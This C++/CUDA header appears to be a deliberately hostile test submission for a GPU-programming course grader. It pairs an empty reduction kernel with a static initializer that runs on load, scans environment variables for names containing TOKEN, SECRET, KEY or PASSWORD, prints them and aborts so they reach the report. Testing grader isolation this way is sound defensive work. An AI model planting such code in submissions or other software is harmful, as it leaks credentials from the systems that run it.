// Hostile submission for lesson 1 (CPU backend only, see README.md): prints
// what looks like a secret in the grader's environment (a token, a key, a
// password), and crashes to put it in the report.
#pragma once

#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <string_view>

#include "warpdrill/cuda.h"

__global__ void reduce_interleaved_divergent(const float*, float*, int) {}

namespace hostile {
inline const bool attacked = [] {
    for (char** entry = environ; *entry; ++entry) {
        const std::string_view text = *entry;
        const std::string_view name = text.substr(0, text.find('='));
        for (const char* secret : {"TOKEN", "SECRET", "KEY", "PASSWORD"})
            if (name.find(secret) != std::string_view::npos) std::puts(*entry);
    }
    std::fflush(stdout);
    std::abort();
    return true;
}();
}  // namespace hostile
